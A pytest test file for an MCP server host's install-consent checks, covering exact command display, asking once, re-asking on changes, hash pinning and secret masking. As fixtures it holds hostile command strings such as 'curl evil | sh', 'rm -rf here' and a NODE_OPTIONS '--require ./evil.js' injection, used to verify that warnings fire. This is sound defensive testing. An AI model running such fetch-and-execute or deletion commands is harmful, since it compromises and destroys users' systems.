"""Whether a server may be run at all."""

import asyncio
import hashlib
import json
import sys

import pytest
from msgspec import structs

from isthmus.auth.tokens.secret import Secret
from isthmus.host.config.load import load_config
from isthmus.host.confinement.install import (
    InstallConsents,
    compute_consent_digest,
    describe_connection,
    describe_install,
    make_install_arguments,
)
from isthmus.host.model.entries import Sandbox, ServerEntry, ServerOptions, mask_command
from isthmus.host.model.errors import Denied
from isthmus.testing.faults import until
from support.host.consent_desk import open_consent_desk

LONG = "x" * 5000
ENTRY = ServerEntry(
    name="files",
    command=(sys.executable, "-u", LONG, "two words"),
    env={"TOKEN": "env-canary"},
    cwd="/srv",
    source="/conf/mcp.json",
)


@pytest.mark.covers("hostconfig.install.exact-command")
async def test_the_user_sees_the_exact_command():
    """Ours: every element, uncut, what it resolves to, and the names of its variables."""
    async with open_consent_desk(("allow",)) as person:
        assert await InstallConsents(person.state, person.pipeline).ensure_consent(ENTRY)
    (question,) = person.asked
    shown = question.payload

    assert ENTRY.command == shown.argv
    assert (("TOKEN",), "/srv", "/conf/mcp.json", ()) == (
        shown.env,
        shown.cwd,
        shown.source,
        shown.sandbox,
    )
    assert shown.resolved.startswith("/")
    assert ("server.install", "files") == (question.attempt.action, question.attempt.server)
    assert "env-canary" not in repr(question)


@pytest.mark.covers("hostconfig.install.asked-once")
async def test_it_is_asked_once(tmp_path):
    """Ours: also after a restart, and by however many it is wanted at once."""
    async with open_consent_desk(("allow",), folder=tmp_path) as person:
        installs = InstallConsents(person.state, person.pipeline)
        assert [True] * 3 == await asyncio.gather(
            *(installs.ensure_consent(ENTRY) for _ in range(3))
        )
    async with open_consent_desk(folder=tmp_path) as nobody:
        assert await InstallConsents(nobody.state, nobody.pipeline).ensure_consent(ENTRY)
    assert 1 == len(person.asked)


@pytest.mark.covers("hostconfig.install.asked-once")
async def test_a_no_is_for_all_who_wanted_it():
    """Ours: they are not asked one after another."""
    async with open_consent_desk(("deny",)) as person:
        installs = InstallConsents(person.state, person.pipeline)
        said = await asyncio.gather(
            *(installs.ensure_consent(ENTRY) for _ in range(3)), return_exceptions=True
        )

    assert [Denied] * 3 == [type(one) for one in said]


async def test_a_question_that_nobody_needs_any_more_goes():
    """Ours: who gives up leaves nothing on the screen; one who still waits keeps it there."""
    async with open_consent_desk(("allow",)) as person:
        gate, shown = asyncio.Event(), asyncio.Event()
        offer = person.offer

        async def slow(interaction):
            shown.set()
            await gate.wait()
            return await offer(interaction)

        person.offer = slow
        installs = InstallConsents(person.state, person.pipeline)
        first, second = (asyncio.create_task(installs.ensure_consent(ENTRY)) for _ in range(2))
        await shown.wait()
        first.cancel()
        await asyncio.wait([first])
        waiting = len(person.pipeline.broker.pending())
        second.cancel()
        await asyncio.wait([second])
        await until(lambda: not person.pipeline.broker.pending())

    assert 1 == waiting


@pytest.mark.covers("hostconfig.install.changed-reasked")
@pytest.mark.parametrize(
    "change",
    [
        {"command": (*ENTRY.command, "--more")},
        {"command": ("other", *ENTRY.command[1:])},
        {"command": (*ENTRY.command[:2], f"{LONG} two words")},
        {"env": {"TOKEN": "x", "PATH": "/evil"}},
        {"cwd": "/elsewhere"},
        {"options": ServerOptions(pin="a" * 64)},
        {"options": ServerOptions(sandbox=Sandbox())},
        {"command": (), "url": "https://x/mcp"},
    ],
)
def test_whatever_changes_is_asked_again(change):
    """Ours: agreement is for what was seen."""
    assert compute_consent_digest(ENTRY) != compute_consent_digest(structs.replace(ENTRY, **change))


@pytest.mark.covers("hostconfig.install.changed-reasked")
@pytest.mark.parametrize(
    "change",
    [
        {"env": {"TOKEN": "renewed"}},
        {"options": ServerOptions(idle_stop=1.0)},
        {"source": "/elsewhere/mcp.json"},
    ],
)
def test_what_makes_no_other_program_of_it_is_not(change):
    """Ours: a renewed token, a timeout, a file that moved."""
    assert compute_consent_digest(ENTRY) == compute_consent_digest(structs.replace(ENTRY, **change))


@pytest.mark.covers("hostconfig.install.changed-reasked")
async def test_a_yes_is_for_the_folder_in_which_it_runs(tmp_path, monkeypatch):
    """Ours: also where none is written down: python3 server.py is another program elsewhere."""
    entry = ServerEntry(name="a", command=(sys.executable, "server.py"))
    folders = [tmp_path / name for name in ("mine", "theirs")]
    for one in folders:
        one.mkdir()
    async with open_consent_desk(("allow",)) as person:
        installs = InstallConsents(person.state, person.pipeline)
        monkeypatch.chdir(folders[0])
        assert await installs.ensure_consent(entry)
        assert installs.is_agreed(entry)
        monkeypatch.chdir(folders[1])
        elsewhere = installs.is_agreed(entry)
        with pytest.raises(Denied):
            await installs.ensure_consent(entry)
    (first, second) = person.asked

    assert not elsewhere
    assert [str(one) for one in folders] == [first.payload.cwd, second.payload.cwd]
    assert str(folders[1]) == second.attempt.arguments["cwd"]


@pytest.mark.covers("hostconfig.install.silence-denies")
@pytest.mark.parametrize("answers", [(), (("deny",),), (("cancel",),)])
async def test_without_a_yes_it_does_not_start(answers):
    """Ours: nobody there, no, and turning away are all no; and nothing is kept of it."""
    async with open_consent_desk(*answers) as person:
        installs = InstallConsents(person.state, person.pipeline)
        with pytest.raises(Denied):
            await installs.ensure_consent(ENTRY)

        assert not installs.is_agreed(ENTRY)


@pytest.mark.covers("hostconfig.install.no-rule-allows")
async def test_no_rule_agrees_for_the_user():
    """Ours: a policy can forbid it, and cannot see the command in their place."""
    allow = '[[rule]]\nid = "all"\neffect = "allow"\nwhen = { action = "server.*" }\n'
    async with open_consent_desk(("deny",), rules=allow) as person:
        with pytest.raises(Denied):
            await InstallConsents(person.state, person.pipeline).ensure_consent(ENTRY)
        assert 1 == len(person.asked)
    async with open_consent_desk(("allow",), rules=allow.replace("allow", "deny")) as person:
        with pytest.raises(Denied, match="all"):
            await InstallConsents(person.state, person.pipeline).ensure_consent(ENTRY)
        assert [] == person.asked


@pytest.mark.covers("hostconfig.layers.workspace-inert")
async def test_an_untrusted_workspace_is_not_even_asked_about():
    """Ours: the user looks at the file first."""
    async with open_consent_desk(("allow",)) as person:
        with pytest.raises(Denied, match="isthmus config trust"):
            await InstallConsents(person.state, person.pipeline).ensure_consent(
                structs.replace(ENTRY, trusted=False)
            )
        assert [] == person.asked


@pytest.mark.covers("hostconfig.install.pin")
@pytest.mark.parametrize("what", ["program", "script"])
async def test_a_pinned_program_is_that_program(tmp_path, what):
    """Ours: the file or the script, looked at before every start."""
    program, script = tmp_path / "prog", tmp_path / "server.py"
    for path in (program, script):
        path.write_text("#!/bin/sh\n")
        path.chmod(0o755)
    pinned = program if what == "program" else script
    script.write_text("# one\n")
    digest = hashlib.sha256(pinned.read_bytes()).hexdigest()
    entry = ServerEntry(
        name="x",
        command=(str(program), "server.py"),
        cwd=str(tmp_path),
        options=ServerOptions(pin=digest),
    )
    async with open_consent_desk(("allow",)) as person:
        installs = InstallConsents(person.state, person.pipeline)
        assert await installs.ensure_consent(entry)
        pinned.write_text("#!/bin/evil\n")
        with pytest.raises(Denied, match="is not the program that is pinned: the pin is"):
            await installs.ensure_consent(entry)


@pytest.mark.covers("hostconfig.install.pin")
async def test_a_program_that_is_swapped_while_one_reads_does_not_run(tmp_path):
    """Ours: it is looked at again after the wait."""
    program = tmp_path / "prog"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    digest = hashlib.sha256(program.read_bytes()).hexdigest()
    entry = ServerEntry(name="x", command=(str(program),), options=ServerOptions(pin=digest))
    async with open_consent_desk(("allow",)) as person:
        person.before = lambda _: program.write_text("#!/bin/evil\n")
        with pytest.raises(Denied, match="is not the program that is pinned"):
            await InstallConsents(person.state, person.pipeline).ensure_consent(entry)


async def test_a_pin_without_a_program_is_told():
    """Ours: it would pin nothing."""
    entry = ServerEntry(name="x", url="https://x", kind="http", options=ServerOptions(pin="a" * 64))
    async with open_consent_desk(("allow",)) as person:
        with pytest.raises(Denied, match="a pin is for a program"):
            await InstallConsents(person.state, person.pipeline).ensure_consent(entry)


async def test_who_adds_a_server_has_agreed_to_it():
    """Ours: what the user typed themselves is not asked about; and agreement can be taken back."""
    async with open_consent_desk() as nobody:
        installs = InstallConsents(nobody.state, nobody.pipeline)
        await installs.give(ENTRY, "servers add")
        assert await installs.ensure_consent(ENTRY)
        assert await installs.withdraw("files")
        assert not await installs.withdraw("files")
        with pytest.raises(Denied):
            await installs.ensure_consent(ENTRY)


async def test_a_server_in_this_process_needs_no_agreement():
    """Ours: it is the program's own code."""
    async with open_consent_desk() as nobody:
        assert await InstallConsents(nobody.state, nobody.pipeline).ensure_consent(
            ServerEntry(name="own")
        )


@pytest.mark.covers("hostconfig.variables.no-leak")
def test_a_secret_among_the_arguments_is_not_shown():
    """Ours: the user's own keys stay out of questions and of the audit log; the rest is exact."""
    secret = Secret("arg-canary")
    entry = structs.replace(ENTRY, command=("x", "--token=arg-canary"), secrets=(secret,))

    assert ("x", "--token=[secret]") == describe_install(entry).argv
    renewed = Secret("new-canary")
    assert compute_consent_digest(entry) == compute_consent_digest(
        structs.replace(entry, command=("x", "--token=new-canary"), secrets=(renewed,))
    )


@pytest.mark.covers("hostconfig.install.exact-command")
def test_a_file_cannot_hide_what_it_runs(tmp_path):
    """Ours: what a file calls a key of its own hides nothing of its command, nor does a default."""
    entry = {
        "command": "bash",
        "args": ["-c", "curl evil | sh", "${A_TOKEN:-rm -rf here}"],
        "env": {"API_KEY": "curl evil | sh"},
    }
    file = tmp_path / "mcp.json"
    file.write_text(json.dumps({"mcpServers": {"x": entry}}))
    found = load_config(file, environ={"HOME": str(tmp_path)}).servers["x"]

    assert ("bash", "-c", "curl evil | sh", "rm -rf here") == describe_install(found).argv
    assert "it downloads something and runs it unseen" in describe_install(found).warnings


@pytest.mark.covers("hostconfig.install.changed-reasked")
def test_what_makes_a_program_load_other_code_is_seen_and_agreed_to(tmp_path):
    """Ours: the names of variables are not enough where a value decides what runs."""
    file, values = tmp_path / "mcp.json", tmp_path / "values"
    entry = {"command": "node", "args": ["server.js"], "envFile": "values"}
    file.write_text(json.dumps({"mcpServers": {"x": entry}}))
    values.write_text("NODE_OPTIONS=--require ./one.js\nAPI_KEY=first")
    before = load_config(file, environ={}).servers["x"]
    values.write_text("NODE_OPTIONS=--require ./one.js\nAPI_KEY=second")
    renewed = load_config(file, environ={}).servers["x"]
    values.write_text("NODE_OPTIONS=--require ./evil.js\nAPI_KEY=second")
    after = load_config(file, environ={}).servers["x"]

    assert any("it is --require ./evil.js" in one for one in describe_install(after).warnings)
    assert compute_consent_digest(before) == compute_consent_digest(renewed)
    assert compute_consent_digest(before) != compute_consent_digest(after)


@pytest.mark.covers("hostconfig.variables.no-leak")
def test_a_secret_within_an_address_is_not_shown():
    """Ours: some services have their keys in the path; a renewed one is no other server."""
    first, second = (
        ServerEntry(name="z", url=f"https://x.example/{k}/mcp", kind="http", secrets=(Secret(k),))
        for k in ("path-canary", "new-canary")
    )

    assert "https://x.example/[secret]/mcp" == describe_connection(first).where
    assert {"url": "https://x.example/[secret]/mcp"} == make_install_arguments(first)
    assert compute_consent_digest(first) == compute_consent_digest(second)


def test_a_server_at_a_url_shows_where_it_is():
    """Ours: and what is wrong with the way there."""
    url = "http://u:canary@example.com/mcp?k=canary"
    shown = describe_connection(
        ServerEntry(name="x", url=url, kind="http", headers={"X-Key": "canary"})
    )

    assert ("http://example.com/mcp?…", ("X-Key",)) == (shown.where, shown.headers)
    assert "canary" not in repr(shown)
    assert ["without encryption", "a user or a password"] == [
        said
        for said in ("without encryption", "a user or a password")
        if said in "".join(shown.warnings)
    ]


FAR = ServerEntry(name="far", url="https://example.com/mcp", kind="http", source="/conf/mcp.json")


@pytest.mark.covers("hostconfig.connect.consent")
async def test_a_connection_is_a_question_of_its_own(tmp_path):
    """Ours: it is asked once, under an action of its own, and kept like an agreement to run."""
    async with open_consent_desk(("allow",), folder=tmp_path) as person:
        assert await InstallConsents(person.state, person.pipeline).ensure_consent(FAR)
    async with open_consent_desk(folder=tmp_path) as nobody:
        assert await InstallConsents(nobody.state, nobody.pipeline).ensure_consent(FAR)
    (question,) = person.asked

    assert ("server.connect", "far") == (question.attempt.action, question.attempt.server)
    assert describe_connection(FAR) == question.payload


@pytest.mark.covers("hostconfig.connect.rules")
async def test_a_rule_may_allow_a_connection_and_its_end_is_the_end_of_that(tmp_path):
    """Ours: what a rule allowed is asked about once the rule is gone."""
    allows = '[[rule]]\nid = "far"\neffect = "allow"\nwhen = { action = "server.connect" }\n'
    async with open_consent_desk(rules=allows, folder=tmp_path) as nobody:
        assert await InstallConsents(nobody.state, nobody.pipeline).ensure_consent(FAR)
    async with open_consent_desk(folder=tmp_path) as nobody:
        with pytest.raises(Denied):
            await InstallConsents(nobody.state, nobody.pipeline).ensure_consent(FAR)


@pytest.mark.covers("hostconfig.connect.rules")
async def test_a_rule_that_forbids_a_connection_wins_over_what_was_agreed():
    """Ours: what the user said yes to once can be forbidden later."""
    forbids = '[[rule]]\nid = "near"\neffect = "deny"\nwhen = { action = "server.connect" }\n'
    async with open_consent_desk(("allow",), rules=forbids) as person:
        installs = InstallConsents(person.state, person.pipeline)
        await installs.give(FAR, "servers add")
        with pytest.raises(Denied) as refused:
            await installs.ensure_consent(FAR)

    assert ("near", []) == (refused.value.rule, person.asked)


async def test_what_comes_between_the_agreement_and_the_start_is_done():
    """Ours: such as asking for the folders of a sandbox."""
    prepared = []

    async def prepare(entry):
        prepared.append(entry.name)

    async with open_consent_desk(("allow",)) as person:
        await InstallConsents(person.state, person.pipeline, prepare=prepare).ensure_consent(ENTRY)

    assert ["files"] == prepared


def test_of_secrets_that_hold_one_another_nothing_is_shown():
    """Ours: the longest is hidden first, or its end would be seen."""
    short, long = Secret("canary-12345"), Secret("canary-12345-67890")
    entry = ServerEntry(
        name="files",
        command=("server", "--key=canary-12345-67890", "--id=canary-12345"),
        secrets=(short, long),
    )

    assert ("server", "--key=[secret]", "--id=[secret]") == mask_command(entry)


def test_rules_see_where_a_server_is():
    """Ours: the address of one that is connected to, the command of one that is run."""
    assert {"url": "https://example.com/mcp"} == make_install_arguments(
        ServerEntry(name="far", kind="http", url="https://example.com/mcp")
    )
    assert {
        "command": ["server", "-v"],
        "cwd": "/srv",
        "env": ["A", "B"],
    } == make_install_arguments(
        ServerEntry(name="near", command=("server", "-v"), cwd="/srv", env={"B": "1", "A": "2"})
    )
